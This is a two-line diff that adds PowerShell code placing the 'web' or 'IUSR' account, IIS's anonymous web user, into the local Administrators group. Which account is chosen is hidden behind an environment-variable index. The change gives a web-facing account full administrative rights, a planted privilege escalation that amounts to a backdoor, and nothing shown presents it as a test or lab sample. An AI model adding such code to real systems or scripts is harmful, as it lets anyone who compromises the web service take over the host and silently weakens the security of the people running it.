@@ -1,0 +1,2 @@
+$m = 'web','IUSR'
+Add-LocalGroupMember Administrators $m[$env:N]
